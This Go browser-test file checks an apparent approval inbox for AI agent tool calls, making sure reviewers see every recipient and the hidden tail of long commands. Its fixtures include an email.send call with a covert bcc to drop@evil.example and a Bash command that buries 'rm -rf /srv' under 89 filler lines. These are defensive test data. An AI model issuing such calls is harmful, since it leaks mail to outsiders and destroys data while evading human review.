package web_test

import (
	"context"
	"strconv"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/chromedp"
)

// rowShows reports whether all of a text in the first row's headline is in sight.
const rowShows = `((text) => {
  const line = document.querySelector("#inbox .row-summary");
  const walk = document.createTreeWalker(line, NodeFilter.SHOW_TEXT);
  for (let node = walk.nextNode(); node; node = walk.nextNode()) {
    const at = node.data.indexOf(text);
    if (at < 0) continue;
    const range = document.createRange();
    range.setStart(node, at);
    range.setEnd(node, at + text.length);
    const box = node.parentElement.getBoundingClientRect();
    return String([...range.getClientRects()].every((r) => r.left >= box.left - 1 && r.right <= box.right + 1));
  }
  return "false";
})`

// Who would get a message, and which rows a statement touches, is in sight in its row: a cut
// in the middle leaves out no recipient (I13).
func TestInABrowserARowShowsEveryRecipientThatItsHeadlineNamesI13(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.ask(toolCall("email.send", `{"to":"anna.schmidt@nordlicht-hosting.example","bcc":"drop@evil.example","subject":"Invoice 2026-118 for November","body":"Hello"}`))
	p := w.tab()
	p.signIn()
	for _, width := range []int64{1440, 1024, 390} {
		p.do("a screen", chromedp.EmulateViewport(width, 900))
		p.open("/")
		if got := p.value(rowShows + `("Email anna")`); got != "true" {
			t.Fatalf("at %d the beginning is in sight: %s", width, got)
		}
		if got := p.value(rowShows + `("bcc drop@evil.example")`); got != "true" {
			t.Errorf("at %d the second recipient is in sight: %s", width, got)
		}
	}
}

// What is printed says where it leaves something out.
func TestInABrowserAPrintedRequestSaysWhatItLeavesOutI13(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.applyPolicy(`{"rules":[{"name":"Shell","tools":["Bash"],"effect":"require","risk":"high"}]}`)
	a := w.ask(toolCall("Bash", `{"command":"`+strings.Repeat(`echo step\n`, 89)+`rm -rf /srv"}`))
	p := w.tab()
	p.signIn()
	p.open(pageOf(a))
	p.do("print", chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
		_, err := cdp.Call(ctx, t, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{Media: "print"})
		return err
	}))
	whole := p.value(`String([...document.querySelectorAll("#block-1 pre")].some((one) => one.checkVisibility() && one.textContent.includes("rm -rf /srv")))`)
	told := p.value(`String(/rest|more|left out|not shown/i.test(document.querySelector("#block-1").innerText))`)
	if whole != "true" && told != "true" {
		t.Error("the last lines of the command are not printed, and nothing says so")
	}
}

// The line of the list's head stays as it is when its filters are opened.
func TestInABrowserTheFiltersOpenWithoutMovingThePage(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.asks(3)
	p := w.tab()
	p.signIn()
	p.do("a phone", chromedp.EmulateViewport(390, 900))
	p.open("/")
	top := func() int {
		n, _ := strconv.ParseFloat(p.value(`String(document.querySelector("#inbox .row, #inbox .row-group").getBoundingClientRect().top)`), 64)
		return int(n)
	}
	before := top()
	p.value(`[...document.querySelectorAll("main summary")].find((one) => one.textContent.trim().startsWith("Filter")).click()`)
	p.becomes(`[...document.querySelectorAll("main details[open] > summary")].some((one) => one.textContent.trim().startsWith("Filter"))`)
	if after := top(); after != before {
		t.Errorf("the list moves from %d to %d", before, after)
	}
}
